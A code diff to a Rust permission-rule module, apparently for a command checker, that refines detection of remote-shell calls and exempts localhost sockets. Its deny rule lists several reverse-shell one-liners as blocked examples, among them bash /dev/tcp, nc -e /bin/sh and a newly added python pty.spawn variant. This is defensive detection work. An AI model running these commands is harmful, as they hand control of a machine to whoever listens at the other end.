@@ -4,7 +4,10 @@ use super::{Rule, When, ask, deny};
 use crate::run::Call;
 
 fn opens_socket(call: &Call) -> bool {
-    let socket = |text: &str| text.contains("/dev/tcp/") || text.contains("/dev/udp/");
+    let socket = |text: &str| {
+        let host = text.split_once("/dev/tcp/").or(text.split_once("/dev/udp/")).map(|(_, host)| host);
+        host.is_some_and(|host| !["localhost/", "127.", "::1/"].iter().any(|own| host.starts_with(own)))
+    };
     let shell = matches!(call.name.as_str(), "bash" | "sh" | "zsh" | "exec" | "ksh" | "dash" | "");
     let by_redirection =
         call.writes.iter().any(|write| socket(&write.path)) || call.reads.iter().any(|path| socket(path));
@@ -18,7 +21,7 @@ fn opens_socket(call: &Call) -> bool {
     let piped = shell
         && call.args.iter().any(|arg| arg.text == "-i")
         && call.reader.as_deref().is_some_and(|reader| matches!(reader, "nc" | "ncat" | "netcat" | "socat"));
-    shell && by_redirection || netcat || piped
+    call.name == "remote-shell" || shell && by_redirection || netcat || piped
 }
 
 pub const RULES: &[Rule] = &[
@@ -69,8 +72,9 @@ pub const RULES: &[Rule] = &[
             "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
             "nc -e /bin/sh 10.0.0.1 4444",
             "cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
+            "python3 -c \"import socket,os,pty;s=socket.create_connection(('10.0.0.1',4444));pty.spawn('sh')\"",
         ],
-        allowed: &["nc -z localhost 80", "curl http://localhost:8080"],
+        allowed: &["nc -z localhost 80", "exec 3<>/dev/tcp/127.0.0.1/5432", "curl http://localhost:8080"],
         ..deny(
             "remote-shell",
             "it gives a shell to whoever is at the other end",
